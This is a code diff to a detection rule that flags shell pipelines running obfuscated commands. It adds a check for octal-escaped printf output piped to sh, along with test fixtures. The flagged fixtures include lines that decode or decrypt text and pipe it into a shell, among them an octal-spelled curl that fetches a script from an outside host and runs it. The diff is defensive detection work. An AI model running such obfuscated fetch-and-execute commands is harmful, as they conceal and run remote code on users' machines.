@@ -56,12 +56,14 @@ export default defineRule({
       '```bash\nopenssl aes-128-cbc -d -a -in kit.txt -pass pass:k | sh\n```\n',
       'echo aGVsbG8gd29ybGQ= | base64 -d | sh\n',
       'powershell -enc SQBFAFgA\n',
+      "printf '\\143\\165\\162\\154 -s https://kit.rowan-pike.net/x' | sh\n",
       'python3 -c "exec(bytes.fromhex(\'7072696e742831\'))"\n',
     ],
     quiet: [
       '```python\nexecutions = [(c["kiln"], bytes.fromhex(c["rows"])) for c in calls]\n```\n',
       '```bash\nexiftool -b -UserComment cover.png | jq .\nstrings app.bin | grep version\n```\n',
       '```bash\ngit log -1 --format=%B | python3 check.py\n```\n',
+      "```bash\nprintf '\\x1b[32m\\342\\234\\223 done\\x1b[0m\\n' | cat\nprintf '\\141\\142\\143' | xxd\nprintf '%s\\n' ls | sh\n```\n",
       '```powershell\npowershell -ExecutionPolicy RemoteSigned -File build.ps1\n```\n',
       '```bash\necho "$KEY" | base64 -d > ~/.ssh/deploy\nchmod 600 ~/.ssh/deploy\nssh -i ~/.ssh/deploy box\n```\n',
       '```bash\ngunzip -c tool.gz > tool && chmod +x tool && ./tool --version\n```\n',
@@ -73,7 +75,7 @@ export default defineRule({
   *match(document: Document): Iterable<Hit> {
     const done = new Set<number>()
     for (const { everyPipeline: every, start, end } of document.observe(commands))
-      if (every.some((one) => runsDecoded(one) || runsUnseen(one) || isEncoded(one))) {
+      if (every.some((one) => RUNS_HIDDEN.some((runs) => runs(one)))) {
         done.add(document.lineAt(start))
         const shown = CUT_SHORT.test(document.reading.text.slice(start, end))
         yield shown
@@ -155,6 +157,22 @@ function runsInput(command: Pipeline['commands'][number]): boolean {
   )
 }
 
+/** Letters that nobody needs to write by their numbers. */
+const AS_NUMBERS = /(?:\\0?1[0-7]{2}|\\x[4-7][\da-f]){3}/
+
+/** What is written for a shell to read is spelled in numbers. */
+const spellsForShell = ({ commands }: Pipeline): boolean =>
+  commands.some(
+    (command, at) =>
+      at > 0 &&
+      runsInput(command) &&
+      readsCommands(readerOf(command)!.name) &&
+      writesNumbers(commands[at - 1]!),
+  )
+
+const writesNumbers = ({ words }: Command): boolean =>
+  /^(?:printf|echo)$/.test(words[0] ?? '') && words.some((word) => AS_NUMBERS.test(word))
+
 /** Programs that bring up texts which nobody sees: in pictures, in programs, in the notes of a repository. */
 const BRINGS_UP = /^(?:exiftool|exiv2|strings|steghide|zsteg|outguess|binwalk|funzip)$/
 
@@ -204,3 +222,5 @@ const isEncoded = ({ commands }: Pipeline): boolean =>
       )
     )
   })
+
+const RUNS_HIDDEN = [runsDecoded, runsUnseen, isEncoded, spellsForShell]
